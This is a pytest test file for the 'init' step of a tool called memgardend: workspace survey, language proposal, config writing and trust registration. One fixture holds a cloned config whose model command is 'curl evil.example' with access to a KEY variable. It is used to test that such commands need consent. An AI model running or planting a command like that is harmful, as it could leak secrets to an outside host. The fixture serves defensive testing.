"""`init` without its questions: what it finds, proposes, writes and registers."""

from __future__ import annotations

import stat
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from memgardend.config.doubts import READ_KINDS
from memgardend.config.load import FILENAME, check, load
from memgardend.config.model import Config
from memgardend.config.settings import schema_text
from memgardend.core.errors import ConfigError, UsageError
from memgardend.core.ports import Chunk, SourceFile
from memgardend.core.records import NewEvent, Window
from memgardend.core.words import Role, WindowKind
from memgardend.daemon.registry import Registry
from memgardend.daemon.setup import apply_init, model_line, plan_init
from memgardend.daemon.sources import KINDS
from memgardend.daemon.survey import Agent, Survey, survey

ENGLISH = "please run the whole test suite again and tell me which of the tests are slow"
CHINESE = "请把所有的测试再跑一遍，然后告诉我哪些比较慢"


@dataclass(frozen=True)
class Talk:
    """One conversation of the fake agent."""

    cwd: Path | None
    turns: tuple[NewEvent, ...] = ()
    kind: WindowKind = WindowKind.MAIN


def turn(text: str, role: Role = Role.HUMAN, pasted: tuple[tuple[int, int], ...] = ()) -> NewEvent:
    return NewEvent(native_id=None, at=0, role=role, text=text, pasted=pasted)


@dataclass(frozen=True)
class FakeSource:
    """An agent whose conversations are given, the oldest first."""

    kind: str
    talks: tuple[Talk | None, ...] = ()

    def files(self) -> Iterator[SourceFile]:
        for number, _ in enumerate(self.talks):
            yield SourceFile(path=str(number), size=1, mtime_ns=number, identity=str(number))

    def peek(self, file: SourceFile) -> Window | None:
        talk = self.talks[int(file.path)]
        if talk is None:
            return None
        cwd = str(talk.cwd) if talk.cwd else None
        name = f"{self.kind}:{file.path}"
        return Window(id=name, source=self.kind, native_id=file.path, cwd=cwd, kind=talk.kind)

    def read(self, file: SourceFile, offset: int, limit_bytes: int) -> Chunk | None:
        window, talk = self.peek(file), self.talks[int(file.path)]
        return Chunk(window=window, events=talk.turns) if window and talk else None

    def end(self, file: SourceFile) -> int:
        return file.size

    def holds_any(self, file: SourceFile, native_ids: Sequence[str]) -> bool:
        return False

    def fingerprint(self, file: SourceFile, offset: int) -> str:
        return ""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    return folder


@pytest.fixture
def registry(tmp_path: Path) -> Registry:
    return Registry(tmp_path / "state")


def look(root: Path, registry: Registry, *talks: Talk | None, lang: str | None = None) -> Survey:
    return survey(root, [FakeSource("claude-code", talks)], registry, lang)


def test_counts_the_conversations_that_belong_here(root: Path, registry: Registry) -> None:
    registry.register(root / "inner", Config(locale="en"), 0)
    found = look(
        root,
        registry,
        Talk(root),
        Talk(root / "deep"),
        Talk(root / "inner"),
        Talk(root.parent),
        Talk(None),
        Talk(root, kind=WindowKind.SUBAGENT),
        None,
    )
    assert found.agents == (Agent("claude-code", here=2, elsewhere=3),)
    assert found.counts() == {"claude-code": 2}


@pytest.mark.parametrize(
    ("talks", "lang", "locale", "basis"),
    [
        ([(True, [turn(ENGLISH)])], "zh_CN.UTF-8", "en", "writing"),
        ([(True, [turn(CHINESE)])], "en_US.UTF-8", "zh-Hans", "writing"),
        ([(False, [turn(ENGLISH)]), (True, [turn(CHINESE)])], None, "zh-Hans", "writing"),
        ([(True, [turn("ok")]), (False, [turn(ENGLISH)])], None, "en", "writing"),
        ([(True, [turn(ENGLISH, Role.ASSISTANT), turn(ENGLISH, Role.SCRIPT)])], "de", None, "none"),
        ([(True, [turn(ENGLISH, pasted=((0, 78),))])], None, None, "none"),
        ([(True, [turn(f"{ENGLISH} {CHINESE}", pasted=((0, 78),))])], None, "zh-Hans", "writing"),
        ([(True, [turn(f"{ENGLISH} {CHINESE}")])], "en_GB.UTF-8", "en", "client"),
        ([], "zh_CN.UTF-8", "zh-Hans", "client"),
        ([], "C", None, "none"),
    ],
    ids=[
        "English",
        "Chinese",
        "turns here come first",
        "too few here",
        "only other roles",
        "all pasted",
        "pasted English, typed Chinese",
        "mixed",
        "nothing, Chinese machine",
        "nothing at all",
    ],
)
def test_proposes_the_language_of_the_person(
    root: Path,
    registry: Registry,
    talks: list[tuple[bool, list[NewEvent]]],
    lang: str | None,
    locale: str | None,
    basis: str,
) -> None:
    given = [Talk(root if here else root.parent, tuple(turns)) for here, turns in talks]
    proposal = look(root, registry, *given, lang=lang).proposal
    assert (proposal.locale, proposal.basis) == (locale, basis)


def test_a_new_workspace(root: Path, registry: Registry) -> None:
    found = look(root, registry, Talk(root, (turn(ENGLISH),)))
    plan = plan_init(found, registry, "en", assistant="Mo", person="Ana")
    assert not (root / FILENAME).exists()
    assert (plan.must_agree, plan.model_line) == (False, "offline (built in)")
    done = apply_init(plan, registry, 1000)
    assert not done.known_before
    config = load(root / FILENAME)
    assert (config.locale, config.names.assistant, config.names.person) == ("en", "Mo", "Ana")
    assert config == plan.config
    assert "claude-code (1)" in (root / FILENAME).read_text()
    folder = root / ".memgarden"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert (folder / ".gitignore").read_text() == "*\n"
    assert (folder / "schema.json").read_text() == schema_text()
    assert set(done.wrote) == {root / FILENAME, folder / ".gitignore", folder / "schema.json"}
    assert registry.model_trusted(root, config)


def test_init_again_changes_nothing(root: Path, registry: Registry) -> None:
    apply_init(plan_init(look(root, registry), registry, "en"), registry, 1000)
    (root / FILENAME).write_text("locale: en\n# mine\n")
    (root / ".memgarden/.gitignore").write_text("mine\n")
    plan = plan_init(look(root, registry), registry, None)
    done = apply_init(plan, registry, 2000)
    assert done.known_before
    assert done.wrote == (root / ".memgarden/schema.json",)
    assert (root / FILENAME).read_text() == "locale: en\n# mine\n"
    assert (root / ".memgarden/.gitignore").read_text() == "mine\n"


def test_the_language_must_be_said(root: Path, registry: Registry) -> None:
    for talks, likely in (((), "en"), ((Talk(root, (turn(CHINESE),)),), "zh-Hans")):
        with pytest.raises(UsageError) as caught:
            plan_init(look(root, registry, *talks), registry, None)
        assert caught.value.hint == f"memgardend init --locale {likely} -w {root}"
        assert caught.value.exit_code == 2


CLONED = "locale: en\nmodel: {command: [curl, 'evil.example'], env: [KEY]}\n"


def test_a_cloned_model_command_must_be_agreed_to(root: Path, registry: Registry) -> None:
    (root / FILENAME).write_text(CLONED)
    (root / ".memgarden/prompts").mkdir(parents=True)
    plan = plan_init(look(root, registry), registry, None)
    assert plan.text is None
    assert plan.must_agree
    assert plan.model_line == "curl evil.example  (sees KEY)"
    assert plan.brought == ("prompts",)
    apply_init(plan, registry, 0)
    assert (root / FILENAME).read_text() == CLONED
    again = plan_init(look(root, registry), registry, None)
    assert (again.must_agree, again.brought) == (False, ())


def test_a_file_that_changes_after_the_question_is_not_agreed_to(
    root: Path, registry: Registry
) -> None:
    (root / FILENAME).write_text("locale: en\n")
    plan = plan_init(look(root, registry), registry, None)
    (root / FILENAME).write_text(CLONED)
    apply_init(plan, registry, 0)
    assert not registry.model_trusted(root, load(root / FILENAME))


def test_a_file_that_appears_after_the_question_stays(root: Path, registry: Registry) -> None:
    plan = plan_init(look(root, registry), registry, "en")
    (root / FILENAME).write_text(CLONED)
    assert root / FILENAME not in apply_init(plan, registry, 0).wrote
    assert (root / FILENAME).read_text() == CLONED
    assert not registry.model_trusted(root, load(root / FILENAME))


def test_another_language_than_the_file_is_refused(root: Path, registry: Registry) -> None:
    (root / FILENAME).write_text("locale: en\n")
    assert plan_init(look(root, registry), registry, "en").config.locale == "en"
    with pytest.raises(UsageError, match="says locale: en"):
        plan_init(look(root, registry), registry, "zh-Hans")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("locale: [\n", "expected the node content"),
        ("locale: en\nsources: [{kind: codex, cwd: any}]\n", "only one workspace may say"),
    ],
    ids=["broken", "a second `any`"],
)
def test_settings_that_cannot_stand_are_refused(
    root: Path, registry: Registry, tmp_path: Path, text: str, said: str
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / FILENAME).write_text("locale: en\nsources: [{kind: claude-code, cwd: any}]\n")
    registry.register(other, Config(locale="en"), 0)
    (root / FILENAME).write_text(text)
    with pytest.raises(ConfigError, match=said):
        plan_init(look(root, registry), registry, None)
    assert not (root / ".memgarden").exists()


def test_a_folder_of_ours_that_leads_elsewhere_is_refused(
    root: Path, registry: Registry, tmp_path: Path
) -> None:
    (root / ".memgarden").symlink_to(tmp_path)
    with pytest.raises(ConfigError, match="is a link"):
        plan_init(look(root, registry), registry, "en")


def test_a_folder_that_cannot_be_written_is_told(root: Path, registry: Registry) -> None:
    (root / ".memgarden").write_text("a file, not a folder")
    plan = plan_init(look(root, registry), registry, "en")
    with pytest.raises(ConfigError, match="cannot be written"):
        apply_init(plan, registry, 0)
    assert not registry.is_registered(root)


def test_what_is_no_folder_is_not_tended(root: Path, registry: Registry) -> None:
    place = root / "not yet"
    for remedy in ("mkdir -p", "ls -ld"):
        with pytest.raises(ConfigError, match="is no folder") as caught:
            plan_init(look(place, registry), registry, "en")
        assert caught.value.hint == f"{remedy} '{place}'"
        place.touch()


def test_no_draft_is_named(root: Path, registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    def denied(path: Path, *_: object, **__: object) -> int:
        raise PermissionError(13, "Permission denied", str(path))

    plan = plan_init(look(root, registry), registry, "en")
    monkeypatch.setattr("memgardend.daemon.private_files.os.open", denied)
    with pytest.raises(ConfigError, match=rf"^{root} cannot be written: Permission denied$"):
        apply_init(plan, registry, 0)


def test_the_settings_know_which_agents_are_read() -> None:
    assert set(KINDS) == READ_KINDS


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("model: {command: [my-model, 'two words']}", "my-model 'two words'"),
        ("model: {preset: llm, name: mini}", "llm prompt --no-log -m mini"),
        ("model: {preset: codex}\ndelegate: {model: offline}", "offline (built in)"),
    ],
)
def test_the_model_line(text: str, line: str) -> None:
    config, _ = check(f"locale: en\n{text}\n")
    assert config is not None
    assert model_line(config) == line
